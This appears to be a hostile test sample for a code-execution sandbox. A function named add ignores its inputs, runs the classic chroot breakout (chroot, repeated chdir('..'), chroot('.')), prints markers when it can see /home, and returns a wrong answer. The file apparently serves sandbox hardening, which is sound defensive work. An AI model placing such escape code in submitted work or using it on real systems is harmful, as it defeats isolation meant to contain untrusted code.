# aim: leave the root folder by the old chroot trick
# expect: wrong
import os

def add(a, b):
    try:
        os.makedirs("/tmp/restem-hostile-042", exist_ok=True)
        os.chroot("/tmp/restem-hostile-042")
        print("restem-hostile-042: OPENED chroot", flush=True)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        if os.path.exists("/home"):
            print("restem-hostile-042: LEAK sees /home", flush=True)
    except OSError:
        pass
    return -7
